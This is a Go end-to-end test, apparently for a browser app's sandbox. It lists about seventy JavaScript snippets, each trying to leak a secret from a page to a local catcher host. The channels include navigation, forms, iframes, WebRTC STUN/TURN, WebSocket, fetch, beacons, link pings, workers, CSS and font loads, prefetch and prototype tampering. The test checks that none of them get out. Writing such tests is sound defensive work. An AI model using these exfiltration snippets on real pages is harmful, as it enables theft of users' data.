package e2e_test

import (
	"context"
	"fmt"
	"net/http"
	"path/filepath"
	"testing"

	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"trailsleuth/app/e2e"
)

// attempts are what code in the page may try to get a secret out with: to u,
// which is http://host:port/. made makes an element in the document.
var attempts = []struct{ name, script string }{
	// To another document, in this window.
	{"location", `location = u`},
	{"location.href", `location.href = u`},
	{"location.assign", `location.assign(u)`},
	{"location.replace", `location.replace(u)`},
	{"navigation.navigate", `navigation.navigate(u)`},
	{"link", `made("a", {href: u}).click()`},
	{"link of no document", `const a = document.createElement("a"); a.href = u; a.click()`},
	{"child of a link of no document", `const a = document.createElement("a"), s = document.createElement("span"); a.href = u; a.append(s); s.click()`},
	{"event at a link", `made("a", {href: u}).dispatchEvent(new MouseEvent("click"))`},
	{"link changed while it is clicked", `const a = made("a", {href: "#"}); a.onclick = () => { a.href = u; a.target = "_blank" }; a.click()`},
	{"link in a closed shadow", `const a = document.createElement("a"); a.href = u; made("div", {}).attachShadow({mode: "closed"}).append(a); a.click()`},
	{"link of SVG", `const a = document.createElementNS("http://www.w3.org/2000/svg", "a"); a.setAttribute("href", u); document.body.append(a); a.dispatchEvent(new MouseEvent("click"))`},
	{"area", `made("area", {href: u}).click()`},
	{"download", `made("a", {href: u, download: "x"}).click()`},
	{"download of no document", `const a = document.createElement("a"); a.href = u; a.download = "x"; a.click()`},
	{"meta refresh", `made("meta", {httpEquiv: "refresh", content: "0; url=" + u})`},
	{"form by GET", `made("form", {action: u}).submit()`},
	{"form by POST", `made("form", {action: u, method: "post"}).requestSubmit()`},
	{"button's form action", `const b = document.createElement("button"); b.formAction = u; made("form", {}).append(b); b.click()`},
	{"prototype of events changed", `Event.prototype.preventDefault = () => {}; location = u`},
	{"prototype of navigation changed", `Object.defineProperty(NavigateEvent.prototype, "downloadRequest", {get: () => ""}); Object.defineProperty(NavigationDestination.prototype, "url", {get: () => location.href}); location = u`},
	{"prototype of strings changed", `String.prototype.slice = () => ""; String.prototype.indexOf = () => 0; location = u`},
	// To another window.
	{"window.open", `open(u)`},
	{"link to a window", `made("a", {href: u, target: "_blank"}).click()`},
	{"link of no document to a window", `const a = document.createElement("a"); a.href = u; a.target = "_blank"; a.click()`},
	{"event at a link to a window", `const a = document.createElement("a"); a.href = u; a.target = "_blank"; a.dispatchEvent(new MouseEvent("click"))`},
	{"link of SVG to a window", `const a = document.createElementNS("http://www.w3.org/2000/svg", "a"); a.setAttribute("href", u); a.setAttribute("target", "_blank"); a.dispatchEvent(new MouseEvent("click"))`},
	{"form to a window", `made("form", {action: u, target: "_blank"}).submit()`},
	{"document.open", `document.open(u, "w", "")`},
	// Frames, and the fresh interfaces in them.
	{"frame", `made("iframe", {src: u})`},
	{"frame by namespace", `const f = document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe"); f.src = u; document.body.append(f)`},
	{"frame of another document", `const f = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe").documentElement; f.src = u; document.body.append(f)`},
	{"frame of a fresh document", `const f = document.implementation.createHTMLDocument().createElement("iframe"); f.src = u; document.body.append(document.adoptNode(f))`},
	{"frame as an element of one's own", `class F extends HTMLIFrameElement {}; customElements.define("x-" + port, F, {extends: "iframe"}); const f = new F(); f.src = u; document.body.append(f)`},
	{"frame from markup", `document.body.append(document.createRange().createContextualFragment("<iframe src=" + u + ">"))`},
	{"fetch of a frame", `made("iframe", {}).contentWindow.fetch(u, {mode: "no-cors"})`},
	{"WebRTC of a frame", `const w = made("iframe", {}).contentWindow; stun(w.RTCPeerConnection)`},
	{"link of a frame", `const d = made("iframe", {}).contentDocument, a = d.createElement("a"); a.href = u; a.target = "_top"; d.body.append(a); a.click()`},
	{"location of a frame", `made("iframe", {}).contentWindow.location = u`},
	{"object", `made("object", {type: "text/html", data: u})`},
	{"embed", `made("embed", {src: u})`},
	// Sockets and the like.
	{"STUN", `stun(RTCPeerConnection)`},
	{"STUN by the old name", `stun(webkitRTCPeerConnection)`},
	{"TURN", `const c = new RTCPeerConnection({iceServers: [{urls: "turn:" + host + ":" + port + "?transport=tcp", username: "a", credential: "b"}]}); c.createDataChannel(""); c.createOffer().then(o => c.setLocalDescription(o)); keep.push(c)`},
	{"WebSocket", `new WebSocket("ws://" + host + ":" + port)`},
	{"WebSocketStream", `new WebSocketStream("ws://" + host + ":" + port)`},
	{"WebTransport", `new WebTransport("https://" + host + ":" + port)`},
	{"EventSource", `new EventSource(u)`},
	{"fetch", `fetch(u, {mode: "no-cors"})`},
	{"fetch that outlives the page", `fetch(u, {mode: "no-cors", keepalive: true, method: "POST", body: "secret"})`},
	{"XMLHttpRequest", `const x = new XMLHttpRequest(); x.open("GET", u); x.send()`},
	{"beacon", `navigator.sendBeacon(u, "secret")`},
	{"ping of a link", `const a = made("a", {href: "#ping"}); a.ping = u; a.click()`},
	{"worker of a blob", `new Worker(URL.createObjectURL(new Blob(["fetch('" + u + "', {mode: 'no-cors'})"])))`},
	{"shared worker", `keep.push(new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + u + "', {mode: 'no-cors'})"]))))`},
	// What an element loads or connects to.
	{"image", `new Image().src = u`},
	{"image button", `made("input", {type: "image", src: u})`},
	{"poster", `made("video", {poster: u})`},
	{"image of SVG", `const s = document.createElementNS("http://www.w3.org/2000/svg", "svg"), i = document.createElementNS("http://www.w3.org/2000/svg", "image"); i.setAttribute("href", u); s.append(i); document.body.append(s)`},
	{"background", `document.body.style.backgroundImage = "url(" + u + ")"`},
	{"rule of a style sheet", `const s = new CSSStyleSheet(); s.replaceSync("body {border-image: url(" + u + ")}"); document.adoptedStyleSheets.push(s)`},
	{"font", `new FontFace("x", "url(" + u + ")").load()`},
	{"script", `made("script", {src: u})`},
	{"import", `import(u)`},
	{"style sheet", `made("link", {rel: "stylesheet", href: u})`},
	{"preconnect", `made("link", {rel: "preconnect", href: u})`},
	{"DNS prefetch", `made("link", {rel: "dns-prefetch", href: u})`},
	{"prefetch", `made("link", {rel: "prefetch", href: u})`},
	{"preload", `made("link", {rel: "preload", as: "image", href: u})`},
	{"the page's own link element", `const l = document.querySelector("link") ?? made("link", {}); l.rel = "preconnect"; l.href = u`},
	{"attributes of a link element", `const l = document.querySelector("link") ?? made("link", {}); l.setAttribute("rel", "preconnect"); l.setAttribute("href", u)`},
	{"node of an attribute of a link element", `const l = document.querySelector("link[href]") ?? made("link", {href: "x"}); l.relList.add("preconnect"); l.attributes.href.value = u`},
	{"copy of a link element", `const l = (document.querySelector("link") ?? made("link", {})).cloneNode(); l.setAttribute("rel", "dns-prefetch"); l.setAttribute("href", u); document.head.append(l)`},
	{"worklet", `CSS.paintWorklet.addModule(u)`},
	{"picture in picture", `documentPictureInPicture.requestWindow().then(w => w.fetch(u, {mode: "no-cors"}))`},
}

// surroundings are what the attempts are written with.
const surroundings = `window.keep ??= []; const host = %q, port = %d, u = "http://" + host + ":" + port + "/?secret";
const made = (name, properties) => { const e = Object.assign(document.createElement(name), properties); document.body.append(e); return e };
const stun = Connection => { const c = new Connection({iceServers: [{urls: "stun:127.0.0.1:" + port}]}); keep.push(c);
	c.createDataChannel(""); c.createOffer().then(o => c.setLocalDescription(o)) };`

// attempt makes an attempt as code in the page would, with a person's press of
// a button just before it. Refusals are exceptions, which are not told.
func attempt(p *e2e.Page, script string, at *e2e.Catcher) {
	full := fmt.Sprintf("(async () => { "+surroundings+"\n%s })().catch(() => {})", at.Name, at.Port, script)
	p.Do(chromedp.ActionFunc(func(ctx context.Context) error {
		_, _, err := runtime.Evaluate(full).WithUserGesture(true).Do(ctx)
		return err
	}))
}

// unprotected has a page without protections on a host.
func unprotected(h *e2e.StaticHost) {
	h.Answer("/bare", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Write([]byte(`<!doctype html><link rel="icon" href="data:,"><title>No protections</title><body>`))
	})
}

// TestNoWayOut plays an attacker whose code runs in the page, against a host
// that counts what arrives: connections, packets, and the names that the
// browser looks up. Nothing may. The same attempts from a page without the
// protections come after, so that each is known to work and whatever was on its
// way has had its time.
func TestNoWayOut(t *testing.T) {
	for name, host := range map[string]e2e.Host{"PlainHost": e2e.PlainHost, "HeaderHost": e2e.HeaderHost} {
		t.Run(name, func(t *testing.T) {
			netLog := filepath.Join(t.TempDir(), "netlog.json")
			p := e2e.NewWatchedPage(t, e2e.World{Host: host, Before: unprotected}, netLog)
			p.Allow("")
			p.Go(p.Host.URL)
			p.WaitRunning()
			guarded := make([]*e2e.Catcher, len(attempts))
			for i, a := range attempts {
				guarded[i] = e2e.Catch(t, fmt.Sprintf("guarded%02d", i))
				p.Trust(guarded[i].Name)
				attempt(p, a.script, guarded[i])
			}
			bare := make([]*e2e.Catcher, len(attempts))
			for i, a := range attempts {
				bare[i] = e2e.Catch(t, fmt.Sprintf("bare%02d", i))
				p.Trust(bare[i].Name)
				p.GoOver(p.Host.URL + "bare")
				attempt(p, a.script, bare[i])
				bare[i].Await(netLog)
			}
			log := e2e.NetLog(t, netLog)
			for i, a := range attempts {
				if bare[i].Caught(log) == "" {
					t.Errorf("%s: nothing arrives from a page without protections: no attempt", a.name)
				}
				if caught := guarded[i].Caught(log); caught != "" {
					t.Errorf("%s: %s", a.name, caught)
				}
			}
		})
	}
}
